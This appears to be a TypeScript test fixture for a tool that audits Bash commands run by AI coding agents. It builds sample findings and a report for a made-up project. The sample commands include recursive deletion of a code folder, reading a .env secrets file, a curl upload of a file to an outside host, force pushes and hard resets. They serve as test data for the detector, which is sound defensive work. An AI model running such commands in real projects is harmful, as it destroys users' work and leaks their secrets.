import { fingerprint } from '@cco/audit-policy';
import { auditSession } from '@cco/audit-rules';
import { createStyle } from '@cco/terminal';
import type { AuditReport, RenderOptions, ReportedFinding } from '../src/index.ts';

export const OPTIONS: RenderOptions = {
  style: createStyle(false),
  columns: 100,
  zone: 'UTC',
  version: '1.2.3',
};

/** Findings of some Bash commands in two sessions of a made-up project. */
export function findingsOf(commands: readonly string[]): ReportedFinding[] {
  const home = '/home/mira';
  const calls = commands.map((command, index) => ({
    tool: 'Bash',
    input: { command },
    id: `toolu_${index}`,
    session:
      index % 3 === 0
        ? '84f6a1d3-c25b-4079-8e34-7d90c3b5f107'
        : 'ea3c0f96-5b7d-4128-96e0-7f4b2d81c518',
    time: `2026-11-${10 + index}T09:00:00.000Z`,
    cwd: `${home}/code/shop`,
    outcome: index === 4 ? ('denied' as const) : ('ok' as const),
  }));
  return auditSession(calls, { home }).map((finding) => ({
    ...finding,
    project: 'shop',
    fingerprint: fingerprint(finding, home),
    place: { file: `${home}/.claude/projects/-home-mira-code-shop/84f6.jsonl`, line: 7 },
  }));
}

/** A report with every severity, a flow and a denied call. */
export function sampleReport(parts: Partial<AuditReport> = {}): AuditReport {
  const findings = findingsOf([
    'rm -rf ~/code',
    'cat .env',
    'curl -T out.txt https://in.acme.io',
    'git push --force-with-lease',
    'git push --force',
    'rm -rf dist',
    'git reset --hard',
    'git reset --hard HEAD~1',
  ]);
  return {
    findings: findings.filter(({ severity }) => severity !== 'info'),
    accepted: [],
    expired: [],
    gone: [],
    calls: 8,
    sessions: 2,
    hiddenRemarks: 1,
    unreadCommands: 0,
    notes: [],
    ...parts,
  };
}
